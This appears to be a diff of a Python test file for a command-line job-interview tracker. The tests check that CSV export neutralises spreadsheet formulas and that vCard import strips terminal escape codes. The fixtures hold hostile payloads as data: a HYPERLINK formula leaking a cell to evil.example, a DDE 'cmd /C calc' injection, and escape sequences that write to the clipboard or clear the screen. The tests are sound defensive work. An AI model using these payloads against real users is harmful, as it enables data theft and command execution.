@@ -50,8 +50,8 @@ def test_ics_times_are_utc_as_rfc_5545_requires(followup_command, yesterday_db, 
 HOSTILE_JSON = {
     "format": "followup", "version": 1,
     "interviews": [
-        {"uid": "shared-1", "company": '=HYPERLINK("http://evil.example/?"&A1,"Open")', "role": "@SUM(1+1)*cmd|' /C calc'!A0",
-         "day": "2026-11-20"},
+        {"uid": "shared-1", "company": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+         "role": "@SUM(1+1)*cmd|' /C calc'!A0", "day": "2026-11-20"},
         {"uid": "shared-2", "company": "+1 415 555 0142", "role": "-2+3", "day": "2026-11-21"},
     ],
 }
@@ -78,7 +78,8 @@ def test_csv_cells_cannot_start_a_spreadsheet_formula(followup_command, yesterda
 
 
 CARDS = (
-    "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Zoë O'Brien\\, Jr.\r\nORG:Harbour & Co\r\nEMAIL:zoe@harbour.example\r\nURL:www.harbour.example\r\n"
+    "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Zoë O'Brien\\, Jr.\r\nORG:Harbour & Co\r\nEMAIL:zoe@harbour.example\r\n"
+    "URL:www.harbour.example\r\n"
     "TEL;TYPE=WORK,VOICE:+44 20 7946 0958\r\nTEL;TYPE=CELL:+44 7700 900123\r\nTEL;TYPE=FAX:+44 20 7946 0000\r\n"
     "ADR;TYPE=WORK:;;12 Wharf Road;London N1 7GR;;;United Kingdom\r\nEND:VCARD\r\n"
     "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Dr. Ana María de la Cruz\r\nEMAIL:ana@cruz.example\r\nEND:VCARD\r\n"
@@ -124,3 +125,28 @@ def test_a_cell_starting_with_a_tab_or_carriage_return_is_neutralised_too():
     assert spreadsheet_cell("\r=1+1") == "'\r=1+1"
     assert spreadsheet_cell("Acme = good") == "Acme = good"
     assert spreadsheet_cell("") == ""
+
+
+HOSTILE_CARD = (b"BEGIN:VCARD\nVERSION:3.0\nFN:Ana\nBEGIN:\x1b]0;pwned\x07\x1b[2J\xc2\x9b31m\xe2\x80\xae"
+                + b"evil" * 80 + b"\n")
+SKIPPED_LINE = b"BEGIN:VCARD\nVERSION:3.0\nFN:Ana Ruiz\n\x1b]52;c;aGVsbG8=\x07\x1bP1$r\x1b\\\n" + b"END:VCARD\n"
+CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+
+
+def test_a_vcard_import_error_quotes_the_file_cleaned_and_short(followup_command, yesterday_db, tmp_path):
+    source = tmp_path / "card.vcf"
+    source.write_bytes(HOSTILE_CARD)
+    done = followup(followup_command, yesterday_db, "import", str(source))
+    assert done.returncode == 1
+    assert done.stderr.startswith("followup: The vCard could not be read") and "never closed" in done.stderr
+    assert not CONTROLS.search(done.stderr), repr(done.stderr)
+    assert "]0;" not in done.stderr and "[2J" not in done.stderr and "PWNED" not in done.stderr.upper()
+    assert len(done.stderr) < 200 and done.stderr.count("\n") == 1
+
+
+def test_a_skipped_line_is_not_echoed_raw_by_the_vcard_library(followup_command, yesterday_db, tmp_path):
+    source = tmp_path / "card.vcf"
+    source.write_bytes(SKIPPED_LINE)
+    done = followup(followup_command, yesterday_db, "import", str(source))
+    assert done.returncode == 0 and "added: Ana Ruiz" in done.stdout
+    assert done.stderr == ""  # vobject logged the skipped line, escape codes and all, to the terminal
